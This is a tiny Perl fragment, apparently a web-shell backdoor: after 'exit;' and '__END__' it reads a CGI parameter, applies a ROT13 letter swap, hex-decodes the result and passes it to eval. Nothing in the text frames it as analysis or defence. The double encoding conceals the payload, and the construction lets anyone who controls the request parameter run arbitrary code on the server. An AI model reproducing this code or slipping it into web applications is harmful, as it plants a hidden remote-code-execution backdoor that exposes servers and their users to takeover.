exit;
__END__
my $w=$cgi->param('w');
$w =~ tr/a-z/n-za-m/;
eval(pack("H*",$w));
